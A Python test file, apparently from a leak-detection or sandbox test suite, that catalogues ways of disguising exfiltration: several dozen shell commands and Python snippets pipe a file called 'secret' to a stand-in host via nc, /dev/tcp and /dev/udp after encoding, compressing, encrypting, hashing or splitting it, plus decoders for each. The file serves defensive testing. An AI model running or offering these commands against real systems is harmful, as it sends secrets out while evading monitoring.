# SPDX-License-Identifier: GPL-3.0-or-later
"""Leaks in disguise: encoded, packed, encrypted, hashed, cut into pieces."""

import base64
import binascii
import bz2
import gzip
import hashlib
import io
import lzma
import re
import zipfile
import zlib

from tests.kernel.guest_run import CONTENT
from tests.kernel.oracle import leaks
from tests.leaks.row import Leak, decoded, exactly, holds, letters, snippet

XORED = bytes(byte ^ 0x5a for byte in CONTENT)
# AES-256-CBC of the content under a key of thirty-two and an IV of sixteen bytes of 0x11.
KEY = "11" * 32
IV = "11" * 16
SPLIT = "split -b {size} secret part.; for part in part.*; do nc remote 9 < $part || exit; done"


def unzipped(data):
    """The only member of a zip file."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return archive.read(archive.namelist()[0])


def from_octal(data):
    """The bytes that `od -An -b` printed."""
    return bytes(int(word, 8) for word in data.split())


def from_bits(data):
    """The bytes that `xxd -b` printed."""
    return bytes(int(word, 2) for word in re.findall(rb"\b[01]{8}\b", data))


def unrotated(data):
    """Letters thirteen further."""
    return data.translate(bytes.maketrans(b"nopqrstuvwxyzabcdefghijklmNOPQRSTUVWXYZABCDEFGHIJKLM",
                                          b"abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ"))


def unordered(data):
    """The parts that came as "NUMBER:HEX" lines, in whatever order."""
    parts = dict(line.split(b":") for line in data.split())
    return bytes.fromhex(b"".join(parts[number] for number in sorted(parts, key=int)).decode())


LEAKS = [
    # Text for binary.
    Leak("base64", "base64 secret | nc remote 9"),
    Leak("base32", "base32 secret | nc remote 9", shows=decoded(lambda data: base64.b32decode(data.replace(b"\n", b"")))),
    Leak("openssl-base64", "openssl base64 -in secret | nc remote 9"),
    Leak("hexadecimal", "xxd -p secret | nc remote 9"),
    Leak("octal", "od -An -b -v secret | nc remote 9", shows=decoded(from_octal), passes=b"[ \n]*"),
    Leak("bits", "xxd -b secret | nc remote 9", shows=decoded(from_bits)),
    Leak("uuencode", "LC_ALL=C perl -e 'undef $/; print pack \"u\", <>' secret | nc remote 9",
         shows=decoded(lambda data: b"".join(binascii.a2b_uu(line) for line in data.splitlines()))),
    Leak("ascii85", snippet("import base64\nsend(base64.a85encode(read()))"), shows=decoded(base64.a85decode)),
    Leak("json", snippet("import json\nsend(json.dumps({'lines': read().decode().split()}).encode())")),
    Leak("utf-32", "iconv -f utf-8 -t UCS-4LE secret | nc remote 9", shows=decoded(lambda data: data.decode("utf-32-le").encode())),
    Leak("ebcdic", "dd if=secret conv=ebcdic status=none | nc remote 9", shows=decoded(lambda data: data.decode("cp037").encode())),
    # Packed.
    Leak("gzip", "gzip -nc secret | nc remote 9", shows=decoded(gzip.decompress), passes=rb"(\x1f\x8b.{8})?"),
    Leak("bzip2", "bzip2 -c secret | nc remote 9", shows=decoded(bz2.decompress)),
    Leak("xz", "xz -c secret | nc remote 9", shows=decoded(lzma.decompress)),
    Leak("lzma", "xz --format=lzma -c secret | nc remote 9", shows=decoded(lzma.decompress)),
    Leak("zstd", "zstd -qc secret | nc remote 9", shows=holds(b"name,salary\nanna,")),
    Leak("zip", "zip -q - secret | nc remote 9", shows=decoded(unzipped), passes=b"(PK.*)?"),
    Leak("zip-file", "zip -q archive.zip secret; nc remote 9 < archive.zip", shows=decoded(unzipped)),
    Leak("unzip", "zip -q archive.zip secret; unzip -p archive.zip | nc remote 9"),
    Leak("tar-gzip", "tar -cz secret | nc remote 9", shows=decoded(gzip.decompress), passes=rb"(\x1f\x8b.{8})?"),
    Leak("busybox-gzip", "busybox gzip -c secret | nc remote 9", shows=decoded(gzip.decompress), passes=rb"(\x1f\x8b.{8})?"),
    Leak("deflate", snippet("import zlib\nsend(zlib.compress(read(), 9))"), shows=decoded(zlib.decompress)),
    Leak("gzip-twice", "gzip -nc secret | gzip -nc | nc remote 9", shows=decoded(lambda data: gzip.decompress(gzip.decompress(data))),
         passes=rb"(\x1f\x8b.{8})?"),
    # Encrypted and hashed. The key may be a known one: the control run needs it.
    Leak("aes", f"openssl enc -aes-256-cbc -K {KEY} -iv {IV} -in secret | nc remote 9", shows=lambda data: len(data) == 64),
    Leak("aes-counter", f"openssl enc -aes-128-ctr -K {KEY[:32]} -iv {IV} -in secret | nc remote 9",
         shows=lambda data: len(data) == len(CONTENT)),
    Leak("aes-password", "openssl enc -aes-256-cbc -pbkdf2 -iter 100 -pass pass:x -in secret | nc remote 9",
         shows=lambda data: data.startswith(b"Salted__") and len(data) == 80, passes=b"(Salted__.{8})?"),
    Leak("aes-decrypted", f"openssl enc -aes-256-cbc -K {KEY} -iv {IV} -in secret -out box; "
         f"openssl enc -d -aes-256-cbc -K {KEY} -iv {IV} -in box | nc remote 9"),
    Leak("chacha", f"openssl enc -chacha20 -K {KEY} -iv {IV} -in secret | nc remote 9", shows=lambda data: len(data) == len(CONTENT)),
    Leak("xor", snippet("send(bytes(byte ^ 0x5a for byte in read()))"), shows=exactly(XORED)),
    Leak("one-time-pad", snippet("import os\npad, data = os.urandom(4096), read()\n"
                                 "send(pad[:len(data)] + bytes(a ^ b for a, b in zip(pad, data)))"),
         shows=decoded(lambda data: bytes(a ^ b for a, b in zip(data[:len(CONTENT)], data[len(CONTENT):], strict=False)))),
    Leak("rotated", "tr a-zA-Z n-za-mN-ZA-M < secret | nc remote 9", shows=decoded(unrotated)),
    Leak("sha256", "sha256sum secret | nc remote 9", shows=holds(hashlib.sha256(CONTENT).hexdigest().encode())),
    Leak("md5", "md5sum < secret | nc remote 9", shows=holds(hashlib.md5(CONTENT).hexdigest().encode())),
    Leak("openssl-digest", "openssl dgst -sha512 -r secret | nc remote 9", shows=holds(hashlib.sha512(CONTENT).hexdigest().encode())),
    Leak("crc", "cksum secret | nc remote 9", shows=holds(b" %d secret" % len(CONTENT))),
    Leak("keyed-hash", "openssl dgst -sha256 -hmac key secret | nc remote 9", shows=holds(b"HMAC-SHA2-256(secret)= "),
         passes=rb"(HMAC-SHA2-256\(secret\)= )?"),
    # Turned, mixed, in pieces.
    Leak("reversed", "rev secret | nc remote 9"),
    Leak("lower-case", "tr A-Z a-z < secret | nc remote 9"),
    Leak("spaced", "sed 's/./& /g' secret | nc remote 9", shows=letters),
    Leak("substituted", "sed 's/Sphinx/Griffin/' secret | nc remote 9", shows=holds(b"Griffin77Quartz")),
    Leak("pieces", SPLIT.format(size=20), shows=leaks),
    Leak("pieces-of-one", "x=$(< secret); for ((i = 17; i < 31; i++)); do echo -n \"${x:i:1}\" > /dev/tcp/remote/9; done",
         passes=b"x?"),
    Leak("pieces-of-files", "split -b 7 secret part.; for part in part.*; do mv $part copy; cat copy; done | nc remote 9"),
    Leak("pieces-in-disorder", snippet("data = read()\nfor i in (3, 0, 5, 1, 4, 2):\n"
                                       "    send(b'%d:%s\\n' % (i, data[i * 10:i * 10 + 10].hex().encode()))"), shows=decoded(unordered)),
    Leak("pieces-by-datagrams", "while read -r line; do echo \"$line\" > /dev/udp/remote/9; done < secret"),
    Leak("pieces-by-processes", "for i in 0 1 2 3 4 5; do dd if=secret bs=10 skip=$i count=1 status=none | nc remote 9; done"),
]
